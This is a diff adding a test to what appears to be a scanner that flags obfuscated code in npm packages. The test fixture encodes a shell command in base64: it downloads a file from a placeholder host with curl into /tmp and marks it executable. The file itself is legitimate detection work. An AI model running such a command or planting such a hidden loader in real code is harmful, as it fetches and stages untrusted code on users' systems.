@@ -191,3 +191,11 @@ def test_dean_edwards_packer_flags_a_module_alone(engine: Engine) -> None:
     found = obfuscated_code_rule(package(engine, npm_tarball({"lib/util.js": code})))
     assert found is not None
     assert rule_points(found) >= 10
+
+
+def test_shell_command_encoded_as_base64_in_a_small_javascript_module(engine: Engine) -> None:
+    command = b"rm -f /tmp/.x && curl -s https://x.example.net/m -o /tmp/.x && chmod +x /tmp/.x"
+    literal = base64.b64encode(command * 3).decode()
+    code = f"const s = Buffer.from('{literal}', 'base64').toString();\nrun(s);\n"
+    techniques = _techniques(run_rule(engine, obfuscated_code_rule, npm_tarball({"i.js": code})))
+    assert "program text encoded as base64" in techniques
